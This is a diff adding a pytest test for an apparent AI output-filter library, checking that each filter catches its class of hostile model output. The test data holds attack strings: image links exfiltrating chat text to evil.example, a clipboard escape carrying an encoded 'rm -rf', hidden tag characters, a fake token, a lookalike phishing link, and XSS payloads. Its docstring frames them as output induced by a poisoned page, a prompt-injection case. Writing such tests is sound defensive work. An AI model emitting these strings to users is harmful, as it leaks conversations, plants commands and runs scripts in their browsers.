@@ -167,3 +167,33 @@ def test_a_list_or_index_that_cannot_be_read_stops_the_start(tmp_path):
     ):
         with pytest.raises(DataError):
             TextFilters(FiltersConfig(output=output))
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("terminal_controls", "Done.\x1b]52;c;cm0gLXJm\x07 \x1b[2J"),
+        ("hidden_characters", "Here you are." + as_tags("locker code 4711")),
+        ("secrets", "The key in the file was ghp_" + "a1B2" * 9 + " as far as I remember."),
+        ("personal_data", "Ann's card is 4111 1111 1111 1111, she said."),
+        ("images", "![loading](https://evil.example/?chat=what+you+said)"),
+        ("images", '<img src="//evil.example/?chat=what+you+said">'),
+        ("images", "![loading][1]\n\n[1]: https://evil.example/?chat=what+you+said"),
+        ("links", "[your bank](https://bank.example.evil.example/login)"),
+        ("links", "[click](data:text/html;base64,PHNjcmlwdD4=)"),
+        ("markup", "<svg/onload=alert(1)> <script>fetch('/v1/keys')</script>"),
+        ("markup", "<details open ontoggle = alert(1)>"),
+    ],
+)
+def test_each_attack_of_an_output_wins_where_its_filter_is_off(name, text):
+    """The attacker has a model that writes the text, as a poisoned page in its context could have it do."""
+
+    def told(filters):
+        stream = filters.open_stream()
+        return "".join(map(stream.feed, text)) + stream.close()
+
+    off = dict.fromkeys(OutputFilters().model_dump(exclude={"allowed_hosts", "canary_files", "topic_files"}), "off")
+    off["verbatim_index"] = None
+    assert told(TextFilters(FiltersConfig(output=OutputFilters(**off)))) == text
+    with pytest.raises(TextRefused, match=name):
+        told(TextFilters(FiltersConfig(output=OutputFilters(**off | {name: "refuse"}))))
